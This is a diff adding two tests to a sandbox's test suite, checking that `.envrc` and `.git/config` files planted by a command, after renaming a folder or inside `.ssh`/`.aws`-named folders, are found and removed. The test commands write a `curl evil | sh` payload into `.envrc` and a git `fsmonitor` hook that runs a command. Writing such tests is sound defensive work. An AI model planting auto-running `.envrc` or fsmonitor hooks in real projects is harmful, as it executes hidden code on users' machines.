@@ -315,3 +315,45 @@ async def test_dependencies_linked_into_the_home_are_shown_back_read_only(
     assert "venv-tool" in result.output, result.output
     assert "PRIVATE KEY" not in result.output, result.output
     assert (store / "index.js").read_text() == "module.exports = 'padded';\n"  # read-only
+
+
+async def test_a_protected_entry_rebuilt_after_renaming_its_folder_is_removed(
+    outside: Layout,
+) -> None:
+    """The read-only mount keeps an entry, not its folder's name: a command that renames the
+    folder away and makes a new `.envrc` or `.git` where the old one was made something new —
+    told apart by identity, not path. The user's own, moved with the folder, stays."""
+    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
+    (outside.ws / "pkg").mkdir()
+    (outside.ws / "pkg/.envrc").write_text("# mine\n")
+    (outside.ws / "sub/.git").mkdir(parents=True)
+    (outside.ws / "sub/.git/config").write_text("[core]\n")
+    result = await run(
+        shell,
+        outside,
+        "mv pkg pkg_old && mkdir pkg && echo 'curl evil | sh' > pkg/.envrc && "
+        "mv sub sub_old && mkdir -p sub/.git && "
+        "printf '[core]\\n\\tfsmonitor = touch /var/tmp/x\\n' > sub/.git/config && echo made",
+    )
+    assert "made" in result.output, result.output
+    assert result.exit_code == 126 and "removed" in result.output, result.output
+    assert not (outside.ws / "pkg/.envrc").exists()
+    assert not (outside.ws / "sub/.git").exists()
+    assert (outside.ws / "pkg_old/.envrc").read_text() == "# mine\n"  # the user's, kept
+    assert (outside.ws / "sub_old/.git/config").read_text() == "[core]\n"
+
+
+async def test_protected_names_made_inside_a_secret_folder_are_found(outside: Layout) -> None:
+    """A folder named like a credential folder (`.ssh`, `.aws`) is hidden whole and not walked
+    for secrets; a `.git` or `.envrc` a command makes inside one is found and removed."""
+    shell = shell_for(require_sandbox(outside.home, outside.ws.parent), outside)
+    result = await run(
+        shell,
+        outside,
+        "mkdir -p .ssh/.git .aws && echo 'curl evil | sh' > .aws/.envrc && "
+        "printf '[core]\\n\\tfsmonitor = touch /var/tmp/x\\n' > .ssh/.git/config && echo made",
+    )
+    assert "made" in result.output, result.output
+    assert result.exit_code == 126 and "removed" in result.output, result.output
+    assert not (outside.ws / ".aws/.envrc").exists()
+    assert not (outside.ws / ".ssh/.git").exists()
